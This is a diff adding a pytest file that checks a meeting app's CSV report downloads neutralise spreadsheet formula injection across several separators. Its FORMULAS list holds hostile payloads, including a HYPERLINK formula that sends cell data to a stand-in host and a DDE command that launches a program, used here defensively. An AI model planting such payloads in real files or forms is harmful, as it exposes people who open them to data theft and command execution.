@@ -1,0 +1,83 @@
+"""Typed text may look like a formula; a spreadsheet that opens a download must not run it."""
+
+import csv
+import io
+import re
+
+import pytest
+
+from tests.protocol.people import Session, op
+from tests.protocol.raw import Raw
+
+SEAT = re.compile(r'data-seat="([^"]+)"')
+# What a cell begins with for a spreadsheet to calculate it; the last four are set wide.
+CALCULATED = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
+# Whatever separator a spreadsheet expects, and so wherever it begins a cell.
+SEPARATORS = ",;\t|"
+
+FORMULAS = [
+    '=HYPERLINK("http://x-hostile.example/?"&A1, "x-hostile")',
+    "=cmd|' /C calc'!A0",
+    "+1+1 x-hostile",
+    "-2+3 x-hostile",
+    "@SUM(1+1) x-hostile",
+    "\uff1d1+1 x-hostile",
+    "\t=1+1 x-hostile",
+    "x-hostile;=1+1",
+    'x-hostile,"=1+1',
+]
+
+
+@pytest.fixture
+def code(desk, server):
+    """A session: each formula was a name, a step, a reason, an owner, a question and an option."""
+    code = desk.new_session(FORMULAS[0])
+    seat = SEAT.search(desk.get(f"/rooms/{code}/console").text())[1]
+    session = Session(server, code)
+    with Raw(server) as host:
+        host.sit(seat)
+        do(host, "room.start")
+        for number, formula in enumerate(FORMULAS, start=1):
+            with Raw(server) as guest:
+                guest.sit(session.join(formula, "en"))
+                say(host, guest, number, formula)
+    return code
+
+
+def say(host, guest, number, formula):
+    do(guest, "step.propose", text=formula, language="en")
+    do(host, "step.put", step=number)
+    do(guest, "step.answer", step=number, answer="disagree", reason=formula)
+    do(host, "step.agree", step=number, owner=formula, due="2031-05-01")
+    asked = {"question": formula, "options": [formula, "No"], "language": "en"}
+    do(host, "poll.create", kind="single", quiz=False, **asked)
+    do(host, "poll.open", poll=f"spot-{number}")
+    [options] = [
+        poll["options"]
+        for poll in do(guest, "room.snapshot")["snapshot"]["polls"]
+        if poll["poll"] == f"spot-{number}"
+    ]
+    do(guest, "poll.vote", poll=f"spot-{number}", options=options[:1])
+
+
+def do(link, name, **fields):
+    answer = link.call(name, fields if name == "room.snapshot" else op(**fields))
+    assert answer["ok"], answer
+    return answer
+
+
+def test_no_download_calculates_anything(code, desk):
+    for kind in ("attendance", "polls", "ballots", "steps"):
+        for separator in ("comma", "semicolon"):
+            path = f"/rooms/{code}/report/{kind}.csv?separator={separator}"
+            text = desk.get(path).body().decode("utf-8-sig")
+            assert text.count("x-hostile") >= len(FORMULAS)
+            for expected in SEPARATORS:
+                begun = beginnings(text, expected)
+                assert not CALCULATED.intersection(begun), (path, expected, text)
+
+
+def beginnings(text, separator):
+    """What each cell begins with, for a spreadsheet that expects this separator."""
+    rows = csv.reader(io.StringIO(text, ""), delimiter=separator)
+    return {cell.strip('" \xa0')[:1] for row in rows for cell in row}
